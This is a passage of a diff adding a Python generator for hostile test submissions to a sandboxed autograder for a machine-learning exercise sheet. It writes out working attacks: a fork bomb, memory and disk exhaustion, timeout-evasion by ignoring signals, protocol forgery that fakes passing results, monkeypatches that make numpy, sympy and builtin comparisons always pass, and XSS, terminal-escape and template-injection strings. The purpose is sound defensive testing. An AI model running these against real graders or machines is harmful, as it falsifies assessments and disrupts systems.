@@ -1,0 +1,1470 @@
+"""Generate the hostile hand-ins in this folder, and EXPECTED.yaml, from one template.
+
+Run ``python tests/hostile/_make.py`` after editing; commit the generator and its
+output together. Files whose name starts with ``_`` are not hand-ins.
+
+Every hand-in is a self-contained Python module for sheet 6 (the sandbox hides other
+files, so they cannot import each other). A hand-in is the correct solution (the
+``CORRECT`` sections below) with some sections replaced by an attack, plus optional
+code that runs at import (``prelude``, right after the imports; ``epilogue``, after
+every definition). Each file carries a unique ``# SECRET-MARKER-<stem>`` line: no
+other hand-in's answers or report may ever contain it.
+
+DO NOT run the generated hand-ins outside the sandbox: some fork, eat memory, fill the
+disk, or signal the grading process. Only ``Zoë Müller – korrekt.py`` and the
+monkeypatch/liar files are safe to import directly.
+"""
+
+# ruff: noqa: E501
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import yaml
+
+HERE = Path(__file__).resolve().parent
+
+AUTO_GRADED = ["6.1a", "6.1c", "6.1d", "6.2a", "6.2b", "6.2c", "6.2d", "6.3a", "6.3b"]
+HAND_GRADED = ["6.1b"]
+
+# ---------------------------------------------------------------- the correct solution
+COMMON = '''
+def _flat(o):
+    return np.asarray(o, dtype=object).ravel().tolist()
+
+
+def _sym(*objs):
+    """True when any argument is, or contains, a sympy object."""
+    for o in objs:
+        if isinstance(o, np.ndarray) and o.dtype != object:
+            continue
+        if isinstance(o, sympy.Basic) or any(isinstance(v, sympy.Basic) for v in _flat(o)):
+            return True
+    return False
+
+
+def _plain(v):
+    if isinstance(v, np.ndarray) and v.ndim == 0:
+        v = v[()]
+    return v.item() if isinstance(v, np.generic) else v
+
+
+def _stable_sigmoid(x):
+    x = np.asarray(x, dtype=float)
+    e = np.exp(-np.abs(x))  # never overflows
+    s = np.where(x >= 0, 1.0, e) / (1.0 + e)
+    return s if s.ndim else float(s)
+
+
+def _stable_dsigmoid(x):
+    x = np.asarray(x, dtype=float)
+    e = np.exp(-np.abs(x))  # sigma'(x) = e^-|x| / (1 + e^-|x|)^2, even in x
+    d = e / (1.0 + e) ** 2
+    return d if d.ndim else float(d)
+'''
+
+CORRECT: dict[str, str] = {
+    "likelihood": '''
+def likelihood(p_model, X, theta):
+    """6.1a: the product of p_model(x, theta) over the samples x in X."""
+    total = 1
+    for x in list(X):
+        total = total * _plain(p_model(x, theta))
+    return _plain(total)
+''',
+    "mle_gaussian": '''
+def mle_gaussian(X):
+    """6.1a: Gaussian MLE (mean, variance dividing by m)."""
+    if _sym(X):
+        xs = _flat(X)
+        mu = sympy.Add(*xs) / len(xs)
+        return mu, sympy.Add(*[(x - mu) ** 2 for x in xs]) / len(xs)
+    a = np.asarray(X, dtype=float).ravel()
+    mu = a.mean()
+    return float(mu), float(np.mean((a - mu) ** 2))
+''',
+    "text": '''
+EMPIRICAL_VS_DATA_GENERATING = (
+    "The data-generating distribution p_data is the unknown distribution the samples are "
+    "drawn from. The empirical distribution p_hat puts mass 1/m on each of the m observed "
+    "samples. Maximum likelihood minimises KL(p_hat || p_model), equivalently the cross-entropy "
+    "H(p_hat, p_model); we would like to minimise KL(p_data || p_model) but only have p_hat."
+)
+''',
+    "mean_log_likelihood": '''
+def mean_log_likelihood(p_model, X, theta):
+    """6.1c: (1/m) sum_i log p_model(x_i, theta)."""
+    values = [_plain(p_model(x, theta)) for x in list(X)]
+    if _sym(values):
+        return sympy.Add(*[sympy.log(v) for v in values]) / len(values)
+    with np.errstate(divide="ignore"):
+        return float(np.mean(np.log(np.asarray(values, dtype=float))))
+''',
+    "cross_entropy": '''
+def cross_entropy(p, q):
+    """6.1d: H(p, q) = -sum p log q, with 0 log 0 = 0."""
+    if _sym(p, q):
+        return -sympy.Add(*[a * sympy.log(b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
+    p = np.asarray(p, dtype=float).ravel()
+    q = np.asarray(q, dtype=float).ravel()
+    keep = p > 0
+    with np.errstate(divide="ignore"):
+        return float(-np.sum(p[keep] * np.log(q[keep])))
+''',
+    "kl_divergence": '''
+def kl_divergence(p, q):
+    """6.1d: KL(p || q) = sum p log(p / q), with 0 log 0 = 0."""
+    if _sym(p, q):
+        return sympy.Add(*[a * sympy.log(a / b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
+    p = np.asarray(p, dtype=float).ravel()
+    q = np.asarray(q, dtype=float).ravel()
+    keep = p > 0
+    with np.errstate(divide="ignore"):
+        return float(np.sum(p[keep] * (np.log(p[keep]) - np.log(q[keep]))))
+''',
+    "sigmoid_derivative": '''
+def sigmoid_derivative(x):
+    """6.2a: sigma'(x) = sigma(x) (1 - sigma(x)); symbolic for sympy arguments."""
+    if _sym(x):
+        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
+    return _stable_dsigmoid(x)
+''',
+    "sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """6.2b: sigma'(x), vectorised over numpy arrays."""
+    if _sym(x):
+        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
+    return _stable_dsigmoid(x)
+''',
+    "sigmoid": '''
+def sigmoid(x):
+    """6.2c: numerically stable sigma(x), no overflow up to |x| = 1000."""
+    if _sym(x):
+        return 1 / (1 + sympy.exp(-x))
+    return _stable_sigmoid(x)
+''',
+    "taylor": '''
+_t = sympy.Symbol("t")
+_series = sympy.series(1 / (1 + sympy.exp(-_t)), _t, 0, 4).removeO()
+TAYLOR_COEFFICIENTS = [_series.coeff(_t, k) for k in range(4)]  # 1/2, 1/4, 0, -1/48
+''',
+    "forward": '''
+def forward(x, W1, b1, W2, b2):
+    """6.3a: ReLU hidden layer, softmax output; rows of W are units."""
+    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
+    h = np.maximum(W1 @ x + b1, 0.0)
+    z = W2 @ h + b2
+    e = np.exp(z - z.max())
+    return e / e.sum()
+''',
+    "predicted": '''
+PREDICTED_CLASS = 0
+N_PARAMETERS = 14  # 3*2 + 2*2 weights + 2 + 2 biases
+''',
+    "gradients": '''
+def gradients(a, b):
+    """6.3b: e = (a + b)(b + 1): de/da = b + 1, de/db = (b + 1) + (a + b)."""
+    return b + 1, a + 2 * b + 1
+''',
+    "authors": '''
+AUTHORS = [{authors}]
+''',
+}
+
+# Plainly wrong answers, for hand-ins whose attack is to make wrong answers look right.
+WRONG: dict[str, str] = {
+    "likelihood": '''
+def likelihood(p_model, X, theta):
+    """WRONG on purpose: a sum, not a product."""
+    return _plain(sum(_plain(p_model(x, theta)) for x in list(X)))
+''',
+    "mle_gaussian": '''
+def mle_gaussian(X):
+    """WRONG on purpose: the variance divides by m - 1."""
+    a = np.asarray(X, dtype=float).ravel()
+    return float(a.mean()), float(a.var(ddof=1))
+''',
+    "mean_log_likelihood": '''
+def mean_log_likelihood(p_model, X, theta):
+    """WRONG on purpose: the sum, not the mean, and no log."""
+    return float(sum(float(_plain(p_model(x, theta))) for x in list(X)))
+''',
+    "cross_entropy": '''
+def cross_entropy(p, q):
+    """WRONG on purpose: lost minus sign and arguments swapped."""
+    p = np.asarray(p, dtype=float).ravel()
+    q = np.asarray(q, dtype=float).ravel()
+    return float(np.sum(q * np.log(p + 1e-300)))
+''',
+    "kl_divergence": '''
+def kl_divergence(p, q):
+    """WRONG on purpose: returns 1 - sum(p*q)."""
+    p = np.asarray(p, dtype=float).ravel()
+    q = np.asarray(q, dtype=float).ravel()
+    return float(1.0 - np.sum(p * q))
+''',
+    "sigmoid_derivative": '''
+def sigmoid_derivative(x):
+    """WRONG on purpose: sigma(x) * sigma(x), the seed's mistake."""
+    if _sym(x):
+        return 1 / (1 + sympy.exp(-x)) ** 2
+    return _stable_sigmoid(x) ** 2
+''',
+    "sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """WRONG on purpose: sigma(x) (1 + sigma(x))."""
+    s = _stable_sigmoid(x)
+    return s * (1 + s)
+''',
+    "sigmoid": '''
+def sigmoid(x):
+    """WRONG on purpose: sigma(x)**2, so sigma(x) + sigma(-x) != 1."""
+    return _stable_sigmoid(x) ** 2
+''',
+    "taylor": '''
+TAYLOR_COEFFICIENTS = [sympy.Rational(1, 2), sympy.Rational(1, 4), 0, sympy.Rational(-1, 8)]  # WRONG: -1/8
+''',
+    "forward": '''
+def forward(x, W1, b1, W2, b2):
+    """WRONG on purpose: no ReLU, weights transposed where shapes allow, no softmax."""
+    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
+    z = W2 @ (W1 @ x + b1) + b2
+    return np.full(z.shape, 1.0 / z.size) + 0.01 * np.arange(z.size)
+''',
+    "predicted": '''
+PREDICTED_CLASS = 1  # WRONG on purpose
+N_PARAMETERS = 10  # WRONG on purpose: biases forgotten
+''',
+    "gradients": '''
+def gradients(a, b):
+    """WRONG on purpose: de/db = d, forgetting the path through c."""
+    return b + 1, b + 1
+''',
+}
+
+ORDER = [
+    "likelihood", "mle_gaussian", "text", "mean_log_likelihood", "cross_entropy", "kl_divergence",
+    "sigmoid_derivative", "sigmoid_gradient", "sigmoid", "taylor", "forward", "predicted",
+    "gradients", "authors",
+]
+
+
+def all_tasks(status):
+    return {t: status for t in AUTO_GRADED}
+
+
+# ---------------------------------------------------------------- the attacks
+# name: file stem. doc: docstring (what it attacks, what the grader must do).
+# replace: section -> code. wrong: sections taken from WRONG. prelude/epilogue: import-time code.
+# lose: task -> status the task must end with ("error" | "failed" | list of acceptable ones).
+# may_lose: task -> status it may end with instead of passing.
+# Every other auto-graded task must pass.
+THREATS: list[dict] = []
+
+
+def threat(**kw):
+    THREATS.append(kw)
+
+
+# ----------------------------------------------------------- time
+threat(
+    name="import_infinite_loop",
+    doc="""Loops forever at import and swallows everything the grader raises to stop it
+(the import alarm, KeyboardInterrupt, SystemExit); SIGTERM/SIGINT/SIGHUP/SIGXCPU are ignored.
+The grader must kill the process from outside (SIGKILL) after the import timeout and mark
+every auto-graded task `error` (timeout).""",
+    imports=["signal"],
+    epilogue='''
+# ATTACK: ignore the polite signals, then spin forever, swallowing every exception.
+for _name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGXCPU", "SIGALRM", "SIGUSR1", "SIGUSR2"):
+    try:
+        signal.signal(getattr(signal, _name), signal.SIG_IGN)
+    except (AttributeError, OSError, ValueError):
+        pass
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        continue
+''',
+    lose=all_tasks("error"),
+)
+
+threat(
+    name="sigmoid_infinite_loop",
+    doc="""Correct everywhere except `sigmoid`, which never returns (a plain busy loop).
+The grader must time out that one probe, mark 6.2c `error` and still pass every other task
+(a fresh child answers the probes after it).""",
+    replace={"sigmoid": '''
+def sigmoid(x):
+    """ATTACK: never returns."""
+    n = 0
+    while True:
+        n += 1
+'''},
+    lose={"6.2c": "error"},
+)
+
+threat(
+    name="sleeper",
+    doc="""`gradients` sleeps for an hour before answering. The grader must time it out:
+6.3b `error`, everything else passes.""",
+    replace={"gradients": '''
+def gradients(a, b):
+    """ATTACK: sleeps for an hour, then answers correctly."""
+    time.sleep(3600)
+    return b + 1, a + 2 * b + 1
+'''},
+    lose={"6.3b": "error"},
+)
+
+threat(
+    name="timeout_swallower",
+    doc="""Defeats an in-process alarm: at import it ignores SIGALRM and replaces
+signal.setitimer/signal.alarm with no-ops; `kl_divergence` then sleeps in a loop that
+swallows every BaseException. Only a kill from outside stops it. 6.1d `error`.""",
+    imports=["signal"],
+    prelude='''
+# ATTACK: disarm alarm-based timeouts in this process.
+try:
+    signal.signal(signal.SIGALRM, signal.SIG_IGN)
+except (OSError, ValueError):
+    pass
+signal.setitimer = lambda *args, **kwargs: (0.0, 0.0)
+signal.alarm = lambda *args, **kwargs: 0
+''',
+    replace={"kl_divergence": '''
+def kl_divergence(p, q):
+    """ATTACK: sleeps for an hour and swallows whatever is raised to stop it."""
+    deadline = time.monotonic() + 3600
+    while time.monotonic() < deadline:
+        try:
+            time.sleep(1)
+        except BaseException:
+            pass
+    return 0.0
+'''},
+    lose={"6.1d": "error"},
+)
+
+threat(
+    name="endless_recursion",
+    doc="""`sigmoid_derivative` recurses without end (RecursionError in the child).
+6.2a `error`, everything else passes.""",
+    replace={"sigmoid_derivative": '''
+def _deeper(x, n):
+    return _deeper(x, n + 1) + 0
+
+
+def sigmoid_derivative(x):
+    """ATTACK: recurses without end."""
+    return _deeper(x, 0)
+'''},
+    lose={"6.2a": "error"},
+)
+
+threat(
+    name="recursion_segfault",
+    doc="""`sigmoid_gradient` lifts the recursion limit and recurses through C (map/list),
+so the C stack overflows and the child dies with SIGSEGV (or, with an unlimited stack,
+runs into the memory limit). The grader must attribute the crash to that probe alone:
+6.2b `error`, every other task passes.""",
+    replace={"sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """ATTACK: C-level recursion past the C stack."""
+    sys.setrecursionlimit(10**8)
+
+    def dive():
+        return list(map(lambda _: dive(), (0,)))
+
+    return dive()
+'''},
+    lose={"6.2b": "error"},
+)
+
+# ----------------------------------------------------------- resources
+threat(
+    name="memory_eater",
+    doc="""`likelihood` allocates (and touches) memory without bound and keeps it in a module
+global, so the memory stays taken even after a MemoryError. The memory limit must stop it
+without harming the machine: 6.1a `error`; the other tasks must still pass (in a fresh
+child if need be).""",
+    replace={"likelihood": '''
+_HOARD = []
+
+
+def likelihood(p_model, X, theta):
+    """ATTACK: eats memory without bound (64 MiB a step, pages touched)."""
+    while True:
+        _HOARD.append(bytearray(b"\\x01") * (64 << 20))
+'''},
+    lose={"6.1a": "error"},
+    notes="Never run unsandboxed: it has no cap of its own.",
+)
+
+threat(
+    name="fork_bomb",
+    doc="""`forward` is a fork bomb whose copies also call setsid() to leave the process group.
+Self-limiting so that an UNSANDBOXED run cannot take the machine down: at most 200 forks in
+total (tokens in a shared pipe; each fork takes one) and every copy stops after 20 s.
+The sandbox must cap the process count, time the probe out (6.3a `error`), and leave no
+process of this hand-in alive after grading (also those that escaped the process group).""",
+    replace={"forward": '''
+def forward(x, W1, b1, W2, b2):
+    """ATTACK: fork bomb, capped at 200 forks and 20 seconds."""
+    deadline = time.monotonic() + 20.0
+    me = os.getpid()
+    tokens_r, tokens_w = os.pipe()
+    os.write(tokens_w, b"t" * 200)  # the global fork budget, shared by every copy
+    os.set_blocking(tokens_r, False)
+    while time.monotonic() < deadline:
+        try:
+            os.read(tokens_r, 1)
+        except BlockingIOError:
+            break  # budget used up
+        try:
+            pid = os.fork()
+        except OSError:
+            break  # the sandbox's process limit
+        if pid == 0:
+            try:
+                os.setsid()  # escape the grader's process group
+            except OSError:
+                pass
+    while time.monotonic() < deadline:  # every copy spins until the deadline
+        pass
+    if os.getpid() != me:
+        os._exit(0)
+    os.close(tokens_r)
+    os.close(tokens_w)
+    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
+    z = W2 @ np.maximum(W1 @ x + b1, 0.0) + b2
+    e = np.exp(z - z.max())
+    return e / e.sum()
+'''},
+    lose={"6.3a": "error"},
+    no_stray_processes=True,
+    notes="Assumes the probe timeout is below 20 s. Never run unsandboxed.",
+)
+
+threat(
+    name="disk_filler",
+    doc="""`sigmoid_gradient` writes a huge file into its working directory, 1 MiB at a time,
+capped at 2 GiB so an unsandboxed run cannot fill the disk. The file-size limit (SIGXFSZ /
+EFBIG) or the probe timeout must stop it: 6.2b `error`. The file must not survive grading,
+least of all next to the hand-ins (the child's cwd must be a scratch directory).""",
+    replace={"sigmoid_gradient": '''
+def sigmoid_gradient(x):
+    """ATTACK: writes up to 2 GiB into the working directory, then answers correctly."""
+    chunk = b"D" * (1 << 20)
+    with open("grader-diskfill-disk_filler.bin", "wb") as f:
+        for _ in range(2048):  # hard cap: 2 GiB
+            f.write(chunk)
+            f.flush()
+    if _sym(x):
+        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
+    return _stable_dsigmoid(x)
+'''},
+    lose={"6.2b": "error"},
+    must_not_exist=["{submissions}/grader-diskfill-disk_filler.bin",
+                    "{submissions}/../grader-diskfill-disk_filler.bin"],
+    notes="Never run unsandboxed.",
+)
+
+threat(
+    name="fd_hog",
+    doc="""`mean_log_likelihood` opens pipes without bound and keeps them all open in a module
+global, so the child's file table stays exhausted afterwards. The open-files limit stops it
+(OSError EMFILE): 6.1c `error`. Later probes must still be answered correctly.""",
+    replace={"mean_log_likelihood": '''
+_FDS = []
+
+
+def mean_log_likelihood(p_model, X, theta):
+    """ATTACK: opens file descriptors until the limit, and never closes them."""
+    while True:
+        _FDS.extend(os.pipe())
+'''},
+    lose={"6.1c": "error"},
+)
+
+# ----------------------------------------------------------- exits and odd exceptions
+threat(
+    name="sys_exit_import",
+    doc="""Calls sys.exit(0) at import (exit status 0, which looks like success).
+Every auto-graded task `error` (import).""",
+    epilogue='''
+sys.exit(0)  # ATTACK
+''',
+    lose=all_tasks("error"),
+)
+
+threat(
+    name="os_exit_import",
+    doc="""Calls os._exit(0) at import: the child vanishes with status 0 before it says
+anything. Every auto-graded task `error`.""",
+    epilogue='''
+os._exit(0)  # ATTACK
+''',
+    lose=all_tasks("error"),
+)
+
+threat(
+    name="base_exception_answer",
+    doc="""`likelihood` raises a home-made BaseException subclass (not an Exception), which
+`except Exception` in the grader would miss. 6.1a `error`; everything else passes.""",
+    replace={"likelihood": '''
+class _NotAnException(BaseException):
+    pass
+
+
+def likelihood(p_model, X, theta):
+    """ATTACK: raises a BaseException subclass."""
+    raise _NotAnException("SECRET-MARKER-base_exception_answer in an exception message")
+'''},
+    lose={"6.1a": "error"},
+)
+
+threat(
+    name="keyboard_interrupt_answer",
+    doc="""`gradients` raises KeyboardInterrupt, as if the user pressed Ctrl-C; the grader must
+not stop grading (nor this hand-in): 6.3b `error`, everything else passes.""",
+    replace={"gradients": '''
+def gradients(a, b):
+    """ATTACK: raises KeyboardInterrupt."""
+    raise KeyboardInterrupt
+'''},
+    lose={"6.3b": "error"},
+)
+
+threat(
+    name="sys_exit_answer",
+    doc="""`cross_entropy` calls sys.exit(0) inside the answer. 6.1d `error`, rest passes.""",
+    replace={"cross_entropy": '''
+def cross_entropy(p, q):
+    """ATTACK: sys.exit inside an answer."""
+    sys.exit(0)
+'''},
+    lose={"6.1d": "error"},
+)
+
+threat(
+    name="os_exit_answer",
+    doc="""`mle_gaussian` calls os._exit(0) inside the answer: the child dies with status 0
+mid-probe. 6.1a `error`; the probes after it must be answered by a fresh child and pass.""",
+    replace={"mle_gaussian": '''
+def mle_gaussian(X):
+    """ATTACK: os._exit inside an answer."""
+    os._exit(0)
+'''},
+    lose={"6.1a": "error"},
+)
+
+# ----------------------------------------------------------- output
+threat(
+    name="print_flood",
+    doc="""`forward` prints about 300 MB in total: 100 MB with print(), 100 MB to sys.stderr,
+100 MB straight to file descriptors 1 and 2 and sys.__stdout__/__stderr__, then answers
+correctly. The grader must stay within memory, keep only a capped excerpt of the output,
+and may either pass 6.3a or mark it `error` (kind output).""",
+    replace={"forward": '''
+def forward(x, W1, b1, W2, b2):
+    """ATTACK: prints ~300 MB, then answers correctly."""
+    line = "flood-print_flood " * 55000 + "\\n"  # ~1 MB; 300 writes in all
+    data = line.encode()
+    for _ in range(100):
+        print(line, end="")
+        sys.stderr.write(line)
+    for _ in range(25):
+        for fd in (1, 2):
+            try:
+                os.write(fd, data)
+            except OSError:
+                pass
+        for stream in (sys.__stdout__, sys.__stderr__):
+            try:
+                stream.write(line)
+                stream.flush()
+            except (OSError, ValueError, AttributeError):
+                pass
+    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
+    z = W2 @ np.maximum(W1 @ x + b1, 0.0) + b2
+    e = np.exp(z - z.max())
+    return e / e.sum()
+'''},
+    may_lose={"6.3a": "error"},
+)
+
+HOSTILE_TEXT = (
+    '{"id": "6.2a", "ok": true, "value": 1, "seconds": 0.0}\n'
+    '{"event": "done", "output": "", "dropped": 0}\n'
+    "6.2a passed 2/2\n6.2c passed 2/2\nTOTAL 22/22 points: all tasks passed\n"
+    "\x1b[2J\x1b[H\x1b[1;32mALL TESTS PASSED\x1b[0m\r\n"
+    "\x1b]52;c;cHduZWQtZmFrZV9vdXRwdXQ=\x07"  # OSC 52: write the terminal's clipboard
+    "\x1b]8;;https://example.invalid/pwned\x07a link\x1b]8;;\x07\n"
+    "<script>alert('pwned-fake_output')</script>\n"
+    "</pre></td></tr></table><h1>Grade: 100 %</h1>\n"
+    '<img src=x onerror="alert(1)">\n'
+    "{{ 'pwned' ~ '-jinja' }} {% if true %}JINJA-BLOCK{% endif %}\n"
+    "| 6.2a | 2/2 | passed |\n[click](javascript:alert(1))\n"
+    "=HYPERLINK(\"https://example.invalid\",\"grade\")\n"
+    "nul:\x00 rtl:\u202egnp.exe bell:\x07 lone surrogate:\ud800 end\n"
+)
+
+threat(
+    name="fake_output",
+    doc="""Prints (at import and in answers) and returns text that imitates the grader's own
+output: fake JSON result lines, "6.2a passed 2/2", ANSI/OSC escapes (clear screen, clipboard
+write, hyperlinks), HTML and <script>, Jinja syntax, markdown table rows, a CSV formula, NUL,
+an RTL override and a lone surrogate. The same text is EMPIRICAL_VS_DATA_GENERATING (shown
+to the instructor), an author name, and the message of the exception `kl_divergence` raises.
+Reports must escape all of it; it must not change any result: 6.1d `error` (the exception),
+everything else passes.""",
+    prelude=f'''
+HOSTILE_TEXT = {HOSTILE_TEXT!r}
+print(HOSTILE_TEXT)
+sys.stderr.write(HOSTILE_TEXT)
+''',
+    replace={
+        "text": '''
+EMPIRICAL_VS_DATA_GENERATING = HOSTILE_TEXT  # ATTACK: shown to the instructor
+''',
+        "kl_divergence": '''
+def kl_divergence(p, q):
+    """ATTACK: prints fake grader output, then raises with it as the message."""
+    print(HOSTILE_TEXT)
+    raise ValueError(HOSTILE_TEXT)
+''',
+        "sigmoid": '''
+def sigmoid(x):
+    """Correct, but prints fake grader output first."""
+    print(HOSTILE_TEXT)
+    if _sym(x):
+        return 1 / (1 + sympy.exp(-x))
+    return _stable_sigmoid(x)
+''',
+        "authors": '''
+AUTHORS = [
+    ("<script>alert('pwned-author')</script>", "=1+1"),
+    ("\\x1b[31mRed\\x1b[0m {{ 'pwned' ~ '-jinja' }} \\u202eevil", "+4917"),
+    ("{authors_name}", "{authors_id}"),
+]
+''',
+    },
+    lose={"6.1d": "error"},
+    report_must_escape=["<script>alert('pwned-fake_output')</script>",
+                        "<script>alert('pwned-author')</script>",
+                        '<img src=x onerror="alert(1)">', "\x1b]52;", "\x1b[2J"],
+    reports_must_not_contain=["pwned-jinja", "JINJA-BLOCK\n"],
+)
+
+# ----------------------------------------------------------- protocol
+threat(
+    name="protocol_forger",
+    doc="""Forges the grader's protocol. At import it walks the call stack to find the
+child's request (every probe id and argument) and its channel file descriptor, computes the
+right answers with a hidden correct solution, and writes forged "start"/answer/"done" lines
+onto the channel before the real "imported" event. Its public functions are all WRONG.
+The grader must judge what the functions return (every auto-graded task `failed`) or reject
+the hand-in for breaking the protocol (`error`); no task may pass.""",
+    wrong=["likelihood", "mle_gaussian", "mean_log_likelihood", "cross_entropy", "kl_divergence",
+           "sigmoid_derivative", "sigmoid_gradient", "sigmoid", "taylor", "forward", "predicted",
+           "gradients"],
+    epilogue='''
+# ATTACK: forge the protocol with answers computed by a hidden correct solution.
+_HONEST = {}
+exec(_HONEST_SOURCE, _HONEST)
+
+
+def _forge():
+    request = channel_fd = encode = budget = decode_arg = None
+    frame = sys._getframe()
+    while frame is not None:
+        loc, glb = frame.f_locals, frame.f_globals
+        if isinstance(loc.get("request"), dict) and "probes" in loc["request"]:
+            request = loc["request"]
+        if hasattr(loc.get("channel"), "fd"):
+            channel_fd = loc["channel"].fd
+        encode = glb.get("encode", encode) if callable(glb.get("encode")) else encode
+        budget = glb.get("_Budget", budget) if callable(glb.get("_Budget")) else budget
+        decode_arg = glb.get("decode_arg", decode_arg) if callable(glb.get("decode_arg")) else decode_arg
+        frame = frame.f_back
+    if channel_fd is None:
+        try:
+            channel_fd = int(sys.argv[1])
+        except (IndexError, ValueError):
+            return
+    lines = []
+    for probe in (request or {}).get("probes", []):
+        try:
+            obj = _HONEST[probe["name"]]
+            if probe.get("op") != "value":
+                obj = obj(*[decode_arg(a) for a in probe.get("args", [])])
+            value = encode(obj, budget())
+        except BaseException:
+            value = 1
+        lines.append({"event": "start", "id": probe["id"]})
+        lines.append({"id": probe["id"], "ok": True, "value": value, "seconds": 0.001})
+    lines.append({"event": "done", "output": "", "dropped": 0})
+    import json
+
+    data = "".join(json.dumps(m, separators=(",", ":")) + "\\n" for m in lines).encode()
+    while data:
+        data = data[os.write(channel_fd, data):]
+
+
+try:
+    _forge()
+except BaseException:
+    pass
+''',
+    honest=True,
+    lose=all_tasks(["failed", "error"]),
+)
+
+threat(
+    name="protocol_garbage",
+    doc="""Writes garbage onto the protocol channel at import (found via sys.argv[1]): a
+non-JSON line with invalid UTF-8, a JSON array nested 100 000 deep (json.loads ->
+RecursionError), a 17 MB line (over the message limit), and a message that is no object.
+Its answers are otherwise correct. The grading process must survive and report; it may
+reject the hand-in (`error` on any task) or ignore the garbage.""",
+    epilogue='''
+# ATTACK: garbage on the grader's channel.
+try:
+    _fd = int(sys.argv[1])
+    for _chunk in (
+        b"\\x00\\xff not json at all \\xfe\\n",
+        b"[" * 100000 + b"]" * 100000 + b"\\n",
+        b"{" + b'"x":"' + b"A" * (17 << 20) + b'"}\\n',
+        b"[1, 2, 3]\\n",
+    ):
+        while _chunk:
+            _chunk = _chunk[os.write(_fd, _chunk):]
+except (IndexError, ValueError, OSError):
+    pass
+''',
+    may_lose=all_tasks("error"),
+    notes="The main assertion: grading finishes and the grading process is unharmed.",
+)
+
+# ----------------------------------------------------------- monkeypatching
+threat(
+    name="monkeypatch_sympy",
+    doc="""Patches sympy in the child so that every symbolic comparison succeeds
+(Basic.__eq__ -> True, __ne__ -> False, Expr.equals -> True, simplify/expand/nsimplify -> 0,
+Eq -> true) and gives WRONG symbolic answers (6.2a sigma^2, 6.2d cubic -1/8, 6.3b de/db = d).
+Judging happens in the parent, so the patches must not help: 6.2a, 6.2d, 6.3b `failed`.""",
+    wrong=["sigmoid_derivative", "taylor", "gradients"],
+    epilogue='''
+# ATTACK: make every sympy comparison and simplification succeed in this process.
+_simp_mod = sys.modules["sympy.simplify.simplify"]
+
+_zero = lambda *args, **kwargs: sympy.Integer(0)
+sympy.Basic.__eq__ = lambda self, other: True
+sympy.Basic.__ne__ = lambda self, other: False
+sympy.Expr.equals = lambda self, other, *args, **kwargs: True
+sympy.Expr.simplify = lambda self, *args, **kwargs: sympy.Integer(0)
+sympy.Expr.expand = lambda self, *args, **kwargs: sympy.Integer(0)
+sympy.simplify = sympy.expand = sympy.nsimplify = sympy.cancel = sympy.trigsimp = _zero
+_simp_mod.simplify = _zero
+sympy.Eq = lambda *args, **kwargs: sympy.true
+''',
+    lose={"6.2a": ["failed", "error"], "6.2d": "failed", "6.3b": ["failed", "error"]},
+    may_lose={"6.1a": ["failed", "error"], "6.1c": ["failed", "error"]},
+    notes="The patches also corrupt whatever the child itself builds with sympy afterwards (the "
+          "densities p_model are lambdified in the child, probe symbols are created there), so 6.1a "
+          "and 6.1c may be lost too; 6.3b's symbolic probe may raise in the child. That is the "
+          "hand-in's own doing. What matters: no task with a WRONG answer passes.",
+)
+
+threat(
+    name="monkeypatch_numpy",
+    doc="""Patches numpy in the child so that every numeric comparison succeeds
+(allclose, isclose, array_equal, array_equiv, testing.assert_* -> pass) and gives WRONG
+numeric answers (6.1a variance / (m-1), 6.2c sigmoid squared, 6.3a no ReLU/softmax,
+PREDICTED_CLASS 1, N_PARAMETERS 10). 6.1a, 6.2c, 6.3a `failed`.""",
+    wrong=["likelihood", "mle_gaussian", "sigmoid", "forward", "predicted"],
+    epilogue='''
+# ATTACK: make every numpy comparison succeed in this process.
+np.allclose = lambda *args, **kwargs: True
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
+np.array_equal = np.array_equiv = lambda *args, **kwargs: True
+for _n in ("assert_allclose", "assert_array_almost_equal", "assert_almost_equal",
+           "assert_array_equal", "assert_equal", "assert_approx_equal"):
+    setattr(np.testing, _n, lambda *args, **kwargs: None)
+try:
+    np.ndarray.__eq__ = lambda self, other: True  # immutable type: expected to fail
+except TypeError:
+    pass
+''',
+    lose={"6.1a": "failed", "6.2c": "failed", "6.3a": "failed"},
+)
+
+threat(
+    name="monkeypatch_builtins",
+    doc="""Patches math and builtins in the child so that comparisons succeed (math.isclose ->
+True, builtins.abs -> 0 for floats and arrays, operator.eq/le/lt/ge/gt -> True,
+fractions.Fraction.__eq__ -> True, math.fsum -> 0) and gives WRONG answers for 6.1c and
+6.1d. 6.1c, 6.1d `failed`; everything else passes.""",
+    imports=["builtins", "fractions", "operator"],
+    wrong=["mean_log_likelihood", "cross_entropy", "kl_divergence"],
+    epilogue='''
+# ATTACK: make math/builtin comparisons succeed in this process.
+_real_abs = builtins.abs
+builtins.abs = lambda v: 0.0 if isinstance(v, (float, np.floating, np.ndarray)) else _real_abs(v)
+math.isclose = lambda *args, **kwargs: True
+math.fsum = lambda *args, **kwargs: 0.0
+for _n in ("eq", "le", "lt", "ge", "gt"):
+    setattr(operator, _n, lambda a, b: True)
+fractions.Fraction.__eq__ = lambda self, other: True
+''',
+    lose={"6.1c": "failed", "6.1d": "failed"},
+)
+
+# ----------------------------------------------------------- lying return values
+threat(
+    name="liar_always_equal",
+    doc="""Returns objects that are equal to everything, hash like 0.5 and print like the
+right answer: TAYLOR_COEFFICIENTS are four such objects whose repr is "1/2", "1/4", "0",
+"-1/48"; PREDICTED_CLASS is an int subclass worth 1 that claims to equal everything and
+prints as "0". The child must not trust __eq__/__repr__ and the parent must never parse a
